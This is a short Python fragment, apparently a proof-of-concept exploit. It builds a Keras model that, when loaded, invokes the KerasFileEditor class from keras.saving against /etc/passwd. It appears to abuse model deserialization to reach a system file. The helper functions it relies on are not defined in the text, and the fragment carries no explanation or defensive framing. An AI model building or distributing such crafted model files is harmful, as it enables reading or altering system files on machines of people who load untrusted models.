def build_model():
    return handing_in(
        with_layer(builtin("KerasFileEditor", filepath="/etc/passwd") | {"module": "keras.saving"})
    )
